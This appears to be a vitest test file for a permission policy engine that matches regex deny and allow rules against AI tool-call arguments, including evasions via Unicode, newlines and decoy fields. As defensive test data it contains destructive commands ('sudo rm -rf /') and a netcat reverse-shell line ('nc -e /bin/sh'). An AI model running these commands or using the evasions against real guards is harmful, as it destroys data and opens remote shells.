import { describe, expect, test } from 'vitest'
import { call, policy, problems } from './support.ts'

/** What a guard and a grant make of patterns for such arguments. */
function values(patterns: string, args: string): readonly (string | undefined)[] {
  const rule = `[{capability: x, match_regex: ${patterns}}]`
  const accounts = policy(`deny: ${rule}\nallow: ${rule}`).explain(call({ arguments: args }))
  return accounts.map(({ value }) => value)
}

describe('a guard takes any text of a call, a grant needs all of them, whole and on one line', () => {
  test.each([
    ['rm -rf', '{"a":"rm -rf"}', 'true', 'true'],
    ['rm -rf', '{"a":"sudo rm -rf /"}', 'true', 'false'],
    ['rm -rf', '{"a":{"b":["x","RM  -rf"]}}', 'true', 'false'],
    ['rm -rf', '{"a":"ｒｍ -r\\u200bf"}', 'true', 'false'],
    ['rm -rf', '{"rm -rf":"x"}', 'true', 'false'],
    ['rm -rf', '{"a":"ls\\nrm -rf"}', 'true', 'false'],
    ['rm\\s+-rf', '{"a":["rm","-rf"]}', 'true', 'false'],
    ['^ls$', '{"a":"ls\\nid"}', 'false', 'false'],
    ['ls', '{"a":"ls\\n"}', 'true', 'false'],
    ['ls|id', '{"a":"ls","b":"id"}', 'true', 'true'],
    ['ls', '{"a":"ls","b":"id"}', 'true', 'false'],
    ['ls', '{"a":"ls","b":5}', 'true', 'true'],
    ['^5[.]0$', '{"a":5.0}', 'true', 'indeterminate'],
    ['x', '{"a":"y"}', 'false', 'false'],
    ['x', '{}', 'false', 'indeterminate'],
  ])('%s for %s: %s for a guard, %s for a grant', (pattern, args, guard, grant) => {
    expect(values(JSON.stringify(pattern), args)).toEqual([guard, grant])
    expect(values(JSON.stringify([pattern, 'nothing else']), args)).toEqual([guard, grant])
  })

  test('a decoy beside the command allows nothing', () => {
    expect(values('"^(ls|pwd)(\\\\s|$)"', '{"note":"ls","command":"nc -e /bin/sh x 1"}')[1]).toBe(
      'false',
    )
  })
})

test('B24: what would take too long is not known, so that a guard applies and a grant does not', () => {
  const args = (length: number): string => `{"a":"${'a'.repeat(length)}"}`
  expect(values('"(a|b){200}c"', args(200_000))).toEqual(['indeterminate', 'indeterminate'])
  expect(values('"^(a+)+$"', `{"t":"${'a'.repeat(40)}!"}`)).toEqual(['false', 'false'])
  expect(values('x', args(300_000))).toEqual(['indeterminate', 'indeterminate'])
})

test.each(['"("', '"(?=a)"', '"a++"', '[]', '5', '""'])('%s is refused', (pattern) => {
  expect(problems(`deny: [{capability: x, match_regex: ${pattern}}]`)).toHaveLength(1)
})
